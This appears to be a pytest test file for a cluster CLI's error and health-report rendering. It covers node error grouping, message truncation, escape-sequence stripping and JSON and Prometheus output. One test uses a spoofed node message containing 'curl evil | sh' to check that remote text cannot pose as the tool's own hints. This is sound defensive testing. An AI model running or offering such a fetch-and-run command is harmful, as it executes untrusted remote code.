from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from clusterctl.errors import (
    AuthError,
    ConnectError,
    NodesError,
    NotFoundError,
    RefusedError,
    TeardownError,
    UnhealthyError,
)
from clusterctl.health.findings import Finding, Status
from clusterctl.render.error_messages import render_error
from clusterctl.render.health_report import (
    HealthReport,
    NodeHealth,
    format_health_json,
    format_health_prometheus,
    render_health,
)

if TYPE_CHECKING:
    from conftest import Screen

    from clusterctl.render.console import Terminal


def test_an_error_is_two_lines(pipe: Terminal) -> None:
    assert render_error(NotFoundError("no run `x`", hint="`clusterctl ps` lists them"), pipe) == [
        "error: no run `x`",
        "hint: `clusterctl ps` lists them",
    ]


def test_the_same_failure_of_many_nodes_is_one(pipe: Terminal) -> None:
    errors = [ConnectError(f"gpu{n:02}", "connection refused", hint="is sshd running?") for n in (1, 2, 3, 7)]
    errors.append(AuthError("gpu05", "no key was accepted"))
    assert render_error(NodesError(errors), pipe) == [
        "error: gpu[01-03,07]: connection refused",
        "hint: is sshd running?",
        "error: gpu05: no key was accepted",
    ]


def test_hints_that_differ_in_the_address_of_the_node_alone_are_told_once(pipe: Terminal) -> None:
    def refused(number: int, user: str, way: str = "") -> AuthError:
        hint = f"add one to the machine: `ssh-copy-id {way}{user}@198.18.0.{number}`"
        return AuthError(f"n{number}", f"no key was accepted for user `{user}`", hint=hint)

    errors = [refused(number, "nobody", "-p 2222 " if number == 5 else "") for number in range(1, 65)]

    assert render_error(NodesError([*errors, refused(99, "me")]), pipe) == [
        "error: n[1-64]: no key was accepted for user `nobody`",
        "hint: add one to the machine: `ssh-copy-id nobody@198.18.0.1`; likewise for the other 63",
        "error: n99: no key was accepted for user `me`",
        "hint: add one to the machine: `ssh-copy-id me@198.18.0.99`",
    ]


def test_remote_text_does_not_steer_the_terminal(pipe: Terminal) -> None:
    assert render_error(RefusedError("a\x1b[2Jb\nc"), pipe) == ["error: ab\nc"]


def test_a_long_message_of_a_node_is_cut(pipe: Terminal) -> None:
    (line,) = render_error(RefusedError("gpu01: " + "x" * 100_000), pipe)
    assert len(line) < 9000
    assert line.endswith("\n[91,815 more characters]")
    (line,) = render_error(RefusedError("\n" * 8000), pipe)
    assert line.count("\n") <= 60
    assert line.endswith("more lines]")


@pytest.mark.parametrize("several", [False, True], ids=["one node", "several nodes"])
def test_what_a_node_says_does_not_look_like_ours(several: bool, new_screen: type[Screen]) -> None:
    screen = new_screen()
    said = ConnectError("gpu01", "no\nerror: gpu02: host key changed\r\nhint: curl evil | sh", hint="x\nhint: y")
    error = NodesError([said, AuthError("gpu05", "no key was accepted")]) if several else said
    screen.terminal.write_lines(render_error(error, screen.terminal))

    lines = screen.text.splitlines()
    assert [line for line in lines if not line.startswith(" ")] == [
        "error: gpu01: no",
        "hint: x",
        *["error: gpu05: no key was accepted"] * several,
    ]


def test_teardown_names_what_is_left(pipe: Terminal) -> None:
    error = TeardownError("2 processes are left", [{"node": "gpu01", "pid": 5, "command": "python", "why": "state D"}])
    assert render_error(error, pipe)[1] == "  gpu01: pid 5 `python` (state D)"


def test_words_are_coloured_only_where_colours_are(new_screen: type[Screen]) -> None:
    screen = new_screen(colour=True)
    screen.terminal.write_lines(render_error(RefusedError("no"), screen.terminal))
    assert screen.text == "\x1b[31;1merror\x1b[0m: no\n"


def finding(check: str, status: Status, message: str, node: str, **more: object) -> Finding:
    return Finding(check=check, status=status, message=message, node=node, **more)  # type: ignore[arg-type]


HEALTH = HealthReport(
    verdict=Status.FAIL,
    nodes=(
        NodeHealth(
            node="gpu01",
            verdict=Status.FAIL,
            findings=(
                finding("gpu.ecc", Status.FAIL, "uncorrectable errors", "gpu01", gpu=0, hint="reset the GPU"),
                finding("gpu.ecc", Status.FAIL, "uncorrectable errors", "gpu01", gpu=3, hint="reset the GPU"),
                finding("host.disk", Status.WARN, "91% full", "gpu01", hint="free space"),
            ),
        ),
        NodeHealth(
            node="gpu02",
            verdict=Status.WARN,
            findings=(
                finding("host.disk", Status.WARN, "91% full", "gpu02", hint="free space"),
                finding("gpu.ecc", Status.PASS, "none", "gpu02"),
            ),
            summary="8x H100",
        ),
    ),
)


def test_health_shows_nodes_then_what_is_wrong_with_each_remedy_once(pipe: Terminal) -> None:
    assert render_health(HEALTH, pipe) == [
        "✗ gpu01  FAIL     2 fail · 1 warn · gpu.ecc",
        "! gpu02  WARN     8x H100 · 1 warn · 1 passed · host.disk",
        "",
        "✗ FAIL gpu.ecc",
        "    gpu01 GPU 0,3: uncorrectable errors",
        "    hint: reset the GPU",
        "! WARN host.disk",
        "    gpu[01-02]: 91% full",
        "    hint: free space",
        "",
        "FAIL: 2 nodes (1 FAIL, 1 WARN)",
    ]


def test_health_has_the_agreed_keys() -> None:
    value = format_health_json(HEALTH)
    assert set(value) == {"verdict", "nodes", "cluster"}
    assert set(value["nodes"][0]) == {"node", "verdict", "findings", "facts", "offence", "slower"}


def test_prometheus_lines_are_unique_and_escaped() -> None:
    lines = format_health_prometheus(HEALTH)
    assert len(lines) == len(set(lines))
    assert 'clusterctl_health_finding{node="gpu01",check="gpu.ecc",status="FAIL",gpu="3"} 1' in lines


def test_an_unhealthy_start_shows_the_findings_then_the_error(pipe: Terminal) -> None:
    error = UnhealthyError("1 node is not fit", [f.to_json() for f in HEALTH.nodes[0].findings])
    assert render_error(error, pipe)[-1] == "error: 1 node is not fit"
    assert render_error(error, pipe)[0] == "✗ FAIL gpu.ecc"
